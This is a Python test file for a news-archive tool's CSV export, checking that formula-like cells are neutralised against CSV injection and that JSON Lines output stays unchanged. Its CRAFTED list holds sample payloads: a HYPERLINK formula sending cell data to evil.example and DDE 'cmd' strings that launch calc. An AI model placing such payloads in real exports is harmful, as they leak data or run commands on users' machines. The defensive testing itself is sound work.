"""CSV exports neutralise cells a spreadsheet would run as formulas (OWASP "CSV Injection"), and
only CSV; ``--keep-formulas`` turns it off."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timezone

import pytest

from storage.articles import save_article
from storage.db import open_archive
from storage.export import neutralise_formula, write_csv
from tests.conftest import messages, run_cli
from tests.test_analysis_data import ARTICLES, make_record

CRAFTED = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看原文")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", CRAFTED)
def test_formula_cells_get_a_leading_quote(cell):
    assert neutralise_formula(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        "人工智能芯片竞赛升温",
        "AI=未来",
        " =1+1",
        "'=1+1",
        "",
        "1-2",
        "2026-11-28T10:30:00+08:00",
        "https://www.thepaper.cn/newsDetail_forward_1",
        "＝全角等号",
    ],
)
def test_other_cells_are_unchanged(cell):
    assert neutralise_formula(cell) == cell


def test_a_line_break_inside_a_cell_cannot_start_a_row_of_its_own():
    """A bare CR is a line end to spreadsheets: the cell is quoted, so that "x\\r=1+1" stays one cell."""
    out = io.StringIO()
    write_csv([[{"title": "x\r=1+1", "summary": "a\nb"}]], out, ["title", "summary"])
    assert out.getvalue() == 'title,summary\r\n"x\r=1+1","a\nb"\r\n'


def test_write_csv_neutralises_text_cells_only():
    rows = [{"cont_id": 1, "title": "=1+1", "tags": ["@人工智能", "芯片"], "word_count": -1, "summary": None}]
    cols = ["cont_id", "title", "tags", "word_count", "summary"]
    out = io.StringIO()
    write_csv([rows], out, cols)
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [cols, ["1", "'=1+1", "'@人工智能;芯片", "-1", ""]]
    raw = io.StringIO()
    write_csv([rows], raw, cols, neutralise_formulas=False)
    assert list(csv.reader(io.StringIO(raw.getvalue())))[1] == ["1", "=1+1", "@人工智能;芯片", "-1", ""]


@pytest.fixture
def crafted_archive(tmp_path):
    url = f"sqlite:///{tmp_path / 'a.db'}"
    engine, Session = open_archive(url, create=True)
    now = datetime.now(timezone.utc)
    with Session() as s:
        for i, title in enumerate(CRAFTED):
            row = (32000000 + i, 1, 9, 25950, title, ["镜像站抄来的一段正文。"], ["=标签"], "news")
            save_article(s, make_record(row, now), raw_page_id=None, now=now)
        save_article(s, make_record(ARTICLES[0], now), raw_page_id=None, now=now)
        s.commit()
    engine.dispose()
    return url


def test_export_csv_from_the_command_line(crafted_archive, tmp_path):
    out = tmp_path / "a.csv"
    proc = run_cli(
        "export", "--db", crafted_archive, "--format", "csv", "--columns", "cont_id,title,tags", "-o", str(out)
    )
    assert proc.returncode == 0 and messages(proc.stderr) == ["exported 7 articles (csv)"]
    with open(out, newline="", encoding="utf-8") as f:
        rows = {int(r[0]): r[1:] for r in list(csv.reader(f))[1:]}
    for i, title in enumerate(CRAFTED):
        assert rows[32000000 + i] == ["'" + title, "'=标签"]
    assert rows[ARTICLES[0][0]] == [ARTICLES[0][4], ";".join(ARTICLES[0][6])]  # a normal title stays as it is

    kept = run_cli(
        "export",
        "--db",
        crafted_archive,
        "--format",
        "csv",
        "--columns",
        "cont_id,title",
        "--keep-formulas",
        "-o",
        str(out),
    )
    assert kept.returncode == 0
    with open(out, newline="", encoding="utf-8") as f:
        titles = {int(r[0]): r[1] for r in list(csv.reader(f))[1:]}
    assert [titles[32000000 + i] for i in range(len(CRAFTED))] == CRAFTED


def test_json_lines_keep_the_text_as_it_is(crafted_archive):
    proc = run_cli("export", "--db", crafted_archive, "--format", "jsonl", "--columns", "cont_id,title")
    titles = {r["cont_id"]: r["title"] for r in map(json.loads, proc.stdout.splitlines())}
    assert [titles[32000000 + i] for i in range(len(CRAFTED))] == CRAFTED
